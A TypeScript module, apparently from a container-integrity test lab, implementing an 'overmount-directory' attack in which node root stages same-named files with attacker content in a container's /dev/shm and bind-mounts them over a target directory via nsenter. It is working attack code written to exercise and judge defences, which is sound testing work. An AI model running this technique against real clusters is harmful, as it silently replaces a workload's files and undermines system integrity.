/**
 * Attack: root on the node replaces a whole directory of a running
 * container: it builds a directory with the same file names and its own
 * content in the container's /dev/shm and bind-mounts it over the target
 * directory from inside the container's mount namespace.
 */
import { LabError } from '../../errors.ts';
import type { Technique } from '../technique.ts';
import type { HarnessCommand } from '../outcome.ts';
import { harnessExec, requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { attackerRuns, judgeOvermount, mountinfoOf, targetOf } from './overmount.ts';

const STAGING = '/dev/shm/.integrity-lab-overmount-dir';

export const overmountDirectory: Technique = {
  name: 'overmount-directory',
  async run(ctx) {
    const { node, attack } = ctx;
    const dir = requirePath(attack);
    const payload = Buffer.from(requirePayload(attack), 'utf8');
    const target = await targetOf(ctx);
    const harnessCommands: HarnessCommand[] = [];
    const listing = await harnessExec(node, target.containerId, `list ${dir} as the workload`, ['ls', '-1', dir], harnessCommands);
    const names = listing.stdout.toString().split('\n').filter(Boolean);
    if (listing.exitCode !== 0 || names.length === 0) {
      throw new LabError<AttackErrorCode>('ATTACK_TARGET_NOT_FOUND', `${dir} is not a non-empty directory in ${target.pod.namespace}/${target.pod.name}: ${listing.stderr.toString().trim()}`);
    }
    // Same names, the attacker's content: the workload finds every file it expects.
    const staged = `/proc/${target.pid}/root${STAGING}`;
    await attackerRuns(node, ['mkdir', '-p', staged]);
    for (const n of names) await attackerRuns(node, ['sh', '-c', `cat > '${staged}/${n.replace(/'/g, '')}'`], payload);
    const mountinfoBefore = await mountinfoOf(node, target.pid);
    const command = ['nsenter', '-t', String(target.pid), '-m', 'mount', '--bind', STAGING, dir];
    const startedAt = Date.now();
    await attackerRuns(node, command);
    const doneAt = Date.now();
    return judgeOvermount(ctx, { target, path: `${dir}/${names[0]}`, payload, command, mountinfoBefore, startedAt, doneAt, harnessCommands });
  },
};
